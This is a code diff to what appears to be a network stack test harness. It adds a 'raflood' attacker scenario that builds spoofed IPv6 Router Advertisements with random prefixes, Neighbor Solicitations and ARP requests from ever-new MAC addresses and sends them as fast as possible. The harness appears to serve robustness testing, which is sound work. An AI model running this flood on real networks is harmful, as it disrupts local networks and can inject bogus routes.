@@ -49,9 +49,9 @@ _LINGER_RST = struct.pack("ii", 1, 0)  # struct linger {on, 0 s}: close() sends 
 class Spec:
     """What one client process does (the harness builds it as JSON)."""
 
-    kind: (
-        str  # bulk_in, bulk_out, echo, echo_many, crr, rr, udp, conns, synflood, fragflood, inject
-    )
+    # bulk_in, bulk_out, echo, echo_many, crr, rr, udp, conns; the attackers:
+    # synflood, fragflood, raflood, inject
+    kind: str
     host: str
     port: int
     start_at: float = 0.0  # time.time() at which the timed phase starts
@@ -61,6 +61,7 @@ class Spec:
     window: int = 32  # datagrams in flight (udp)
     size: int = 64  # datagram payload bytes (udp)
     rate: float = 0.0  # frames per second (the flooders; 0: as fast as they can)
+    host6: str = ""  # raflood: the server's IPv6 address (``host`` is its IPv4 one)
 
 
 @dataclass(slots=True)
@@ -522,6 +523,53 @@ def _flood(spec: Spec, out: Outcome, frames: list[bytes], dev: str) -> None:
     out.lost = refused
 
 
+def _nd_frames(spec: Spec, own: bytes, peer: bytes, count: int) -> list[bytes]:
+    """``count`` frames of a neighbour-discovery flood, in turn: a Router
+    Advertisement from a new router (random link-local address and MAC)
+    with two random /64 prefixes in 2001:db8::/32 (on-link, autonomous), a
+    Neighbor Solicitation for ``spec.host``'s IPv6 address from a new
+    sender in its /64 and an ARP request for its IPv4 address from a new
+    sender in its /24 (both with new link-layer addresses to learn)."""
+    rng = random.Random(4)
+    v6_host = socket.inet_pton(socket.AF_INET6, spec.host6)
+    v4_host = socket.inet_pton(socket.AF_INET, spec.host)
+    all_nodes = bytes.fromhex("ff020000000000000000000000000001")
+    solicited = bytes.fromhex("ff0200000000000000000001ff") + v6_host[13:]
+    frames = []
+    for i in range(count):
+        mac = bytes([0x02]) + rng.randbytes(5)
+        kind = i % 3
+        if kind == 0:  # RA (RFC 4861 §4.2) + SLLA + 2 Prefix Information options
+            src = bytes.fromhex("fe800000000000000000") + rng.randbytes(6)
+            body = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0)
+            body += bytes((1, 1)) + mac
+            for _ in range(2):
+                prefix = bytes.fromhex("20010db8") + rng.randbytes(4) + bytes(8)
+                body += struct.pack("!BBBBIII", 3, 4, 64, 0xC0, 86400, 14400, 0) + prefix
+            dst, dst_mac = all_nodes, bytes.fromhex("333300000001")
+        elif kind == 1:  # NS for the host's address (RFC 4861 §4.3) + SLLA
+            src = v6_host[:8] + rng.randbytes(8)
+            body = struct.pack("!BBHI", 135, 0, 0, 0) + v6_host + bytes((1, 1)) + mac
+            dst, dst_mac = solicited, bytes.fromhex("3333ff") + v6_host[13:]
+        else:  # ARP request (RFC 826) from a new sender on the host's /24
+            sender = v4_host[:3] + bytes((rng.randrange(3, 255),))
+            arp = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 1) + mac + sender + bytes(6) + v4_host
+            frames.append(b"\xff" * 6 + mac + b"\x08\x06" + arp)
+            continue
+        pseudo = src + dst + struct.pack("!I3xB", len(body), 58)
+        body = body[:2] + _sum16(pseudo + body).to_bytes(2, "big") + body[4:]
+        ip = struct.pack("!IHBB", 6 << 28, len(body), 58, 255) + src + dst
+        frames.append(dst_mac + mac + b"\x86\xdd" + ip + body)
+    return frames
+
+
+def raflood(spec: Spec, out: Outcome) -> None:
+    """Router Advertisements, Neighbor Solicitations and ARP requests from
+    ever new senders, as fast as this process sends them."""
+    dev, own, peer = _link_towards(spec.host)
+    _flood(spec, out, _nd_frames(spec, own, peer, FLOOD_POOL), dev)
+
+
 def fragflood(spec: Spec, out: Outcome) -> None:
     """Never-completing fragments as fast as this process sends them."""
     dev, own, peer = _link_towards(spec.host)
@@ -710,6 +758,7 @@ SCENARIOS = {
     "conns": conns,
     "synflood": synflood,
     "fragflood": fragflood,
+    "raflood": raflood,
     "inject": inject,
 }
 
